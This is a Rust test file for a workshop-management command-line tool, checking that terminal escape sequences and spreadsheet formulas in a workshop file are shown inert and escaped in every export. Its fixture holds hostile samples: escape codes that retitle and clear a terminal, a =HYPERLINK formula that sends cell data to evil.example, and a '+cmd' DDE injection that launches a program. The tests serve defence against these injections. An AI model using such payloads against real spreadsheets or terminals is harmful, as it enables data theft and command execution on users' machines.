//! Files that could attack their reader: text in a workshop file that
//! would drive a terminal (an escape sequence that retitles the window or
//! clears the screen) or a spreadsheet (a formula) reaches no output raw.
#![allow(clippy::unwrap_used, clippy::panic)] // A test or bench fails by panicking.

mod common;

use common::{EXAMPLE, atelier, stderr, stdout};
use std::path::{Path, PathBuf};

/// Bytes that act on a terminal: C0 but tab and line feed, DEL, C1 (as
/// UTF-8), and the bidi overrides.
fn active(text: &str) -> Vec<char> {
    text.chars()
        .filter(|c| atelier::domain::text::is_active(*c) && *c != '\r')
        .collect()
}

/// The example with a hostile title, organisation and proposal, written
/// as a hand-edited file would be (TOML escapes).
fn hostile_workshop(dir: &Path) -> PathBuf {
    let text = std::fs::read_to_string(EXAMPLE).unwrap();
    let text = text
        .replace(
            "title = \"Concertation Pacte local des solidarités — Drôme\"",
            "title = \"Drôme \\u001B]0;PWNED\\u0007\\u001B[2J\\u0008 \\u202Efin\"",
        )
        .replace(
            "text = \"Généraliser la tarification sociale",
            "text = \"=HYPERLINK(\\\"http://evil.example/?q=\\\"&A1;\\\"clic\\\") Généraliser la tarification sociale",
        )
        .replace(
            "organisation = \"DDETS de la Drôme\"",
            "organisation = \"+cmd|' /C calc'!A0\"",
        );
    let path = dir.join("sessions/hostile.toml");
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(&path, text).unwrap();
    path
}

#[test]
fn check_and_list_show_control_characters_without_obeying_them() {
    let home = tempfile::tempdir().unwrap();
    let path = hostile_workshop(home.path());
    for args in [vec!["check", path.to_str().unwrap()], vec!["list"]] {
        let out = atelier(home.path(), &args);
        let printed = stdout(&out) + &stderr(&out);
        assert!(out.status.success(), "{args:?}: {printed}");
        assert_eq!(
            active(&printed),
            Vec::<char>::new(),
            "{args:?}: {printed:?}"
        );
        assert!(
            printed.contains("Drôme ␛]0;PWNED␇␛[2J␈ ⟨U+202E⟩fin"),
            "{printed}"
        );
    }
}

/// A file's text; a workbook or a Word file (a zip of XML parts) as the
/// XML of all its parts.
fn readable(path: &std::path::Path) -> String {
    let office = matches!(
        path.extension().and_then(|e| e.to_str()),
        Some("xlsx" | "docx" | "ods" | "odt")
    );
    if !office {
        return std::fs::read_to_string(path).unwrap();
    }
    let mut zip = zip::ZipArchive::new(std::fs::File::open(path).unwrap()).unwrap();
    let mut text = String::new();
    for i in 0..zip.len() {
        let mut part = zip.by_index(i).unwrap();
        std::io::Read::read_to_string(&mut part, &mut text).expect("XML parts are UTF-8");
    }
    text
}

#[test]
fn every_export_is_clean_and_spreadsheet_cells_are_not_formulas() {
    let home = tempfile::tempdir().unwrap();
    let path = hostile_workshop(home.path());
    let out_dir = home.path().join("export");
    let out = atelier(
        home.path(),
        &[
            "export",
            path.to_str().unwrap(),
            "-o",
            out_dir.to_str().unwrap(),
        ],
    );
    assert!(out.status.success(), "{}", stderr(&out));
    let mut seen = 0;
    let mut stack = vec![out_dir.clone()];
    while let Some(dir) = stack.pop() {
        for entry in std::fs::read_dir(dir).unwrap() {
            let p = entry.unwrap().path();
            if p.is_dir() {
                stack.push(p);
                continue;
            }
            let text = readable(&p);
            assert_eq!(active(&text), Vec::<char>::new(), "{}", p.display());
            seen += 1;
        }
    }
    assert!(seen >= 8, "{seen} files");
    let csv = std::fs::read_to_string(out_dir.join("propositions.csv")).unwrap();
    assert!(csv.contains("'=HYPERLINK("), "{csv}");
    let ballots = std::fs::read_to_string(out_dir.join("bulletins.csv")).unwrap();
    assert!(!ballots.contains(";+cmd"), "{ballots}");
    // Programs get the text as typed (they never evaluate cells).
    let std_dir = home.path().join("standard");
    let out = atelier(
        home.path(),
        &[
            "export",
            path.to_str().unwrap(),
            "--format",
            "csv",
            "--csv-standard",
            "-o",
            std_dir.to_str().unwrap(),
        ],
    );
    assert!(out.status.success(), "{}", stderr(&out));
    let csv = std::fs::read_to_string(std_dir.join("propositions.csv")).unwrap();
    assert!(
        csv.contains(",\"=HYPERLINK(") || csv.contains(",=HYPERLINK("),
        "{csv}"
    );
}
